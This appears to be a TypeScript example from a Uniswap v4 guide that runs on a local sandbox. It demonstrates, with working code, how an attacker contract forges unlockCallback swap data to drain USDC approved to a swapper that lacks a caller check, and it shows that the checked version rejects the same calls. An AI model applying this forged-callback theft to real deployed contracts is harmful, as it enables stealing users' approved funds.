import assert from 'node:assert/strict';
import {encodeFunctionData, formatEther, parseAbi, parseUnits} from 'viem';
import {approve} from '../../support/allowances';
import {account, client, clientOf, confirm, deadlineIn} from '../../support/chain';
import {runOnSandbox} from '../../support/runOnSandbox';
import {encode} from '../../universal-router/support/router';
import {errorOf} from '../support/errorOf';
import {key, usdc} from '../support/pool';
import {deployWithManager, swapperAbi, unlockTypes} from './support/poolSwapper';

const stake = parseUnits('1000', usdc.decimals);
const attackerAbi = parseAbi(['function attack(address target, bytes data)']);
/** Steals; with an account of its own it acts in a local chain only. */
const thief = clientOf(9);

async function main(): Promise<void> {
  // #region targets
  const ours = {file: 'examples/v4/guides/PoolSwapper.sol', contract: 'PoolSwapper'};
  const file = 'examples/v4/guides/UncheckedSwapper.sol';
  const checked = await deployWithManager(ours);
  const unchecked = await deployWithManager({file, contract: 'UncheckedSwapper'});
  const attacker = await deployWithManager({file, contract: 'SwapAttacker'});
  for (const spender of [checked, unchecked]) {
    await approve({token: usdc.address, spender, amount: stake});
  }
  // #endregion targets

  // #region forged
  // The account that gave the allowance pays, and the thief receives.
  const recipient = thief.account.address;
  const deadline = await deadlineIn(600n);
  const terms = {amountIn: stake, amountOutMinimum: 1n, sqrtPriceLimitX96: 0n};
  const swap = {...terms, key, zeroForOne: false, recipient, deadline};
  const forged = encode(unlockTypes, swap, account);
  const attackOn = (target: typeof checked) =>
    encodeFunctionData({abi: attackerAbi, functionName: 'attack', args: [target, forged]});
  const direct = encodeFunctionData({
    abi: swapperAbi,
    functionName: 'unlockCallback',
    args: [forged],
  });
  // #endregion forged

  // #region attack
  console.log(`with the check, called directly     ${await errorOf({to: checked, data: direct})}`);
  const attack = {to: attacker, data: attackOn(checked)};
  console.log(`with the check, inside of an unlock ${await errorOf(attack)}`);
  console.log(
    `no check, called directly           ${await errorOf({to: unchecked, data: direct})}`,
  );

  const before = await client.getBalance({address: recipient});
  const theft = {to: attacker, data: attackOn(unchecked)};
  const receipt = await confirm(await thief.sendTransaction(theft));
  // #endregion attack
  const gasWei = receipt.gasUsed * receipt.effectiveGasPrice;
  const stolen = (await client.getBalance({address: recipient})) - before + gasWei;
  assert.ok(stolen > 0n);
  console.log(
    `no check, inside of an unlock       1000 USDC became ${formatEther(stolen)} ETH of the thief`,
  );
  // #region clean-up
  await approve({token: usdc.address, spender: checked, amount: 0n});
  // #endregion clean-up
}

runOnSandbox('acts as two accounts', main);
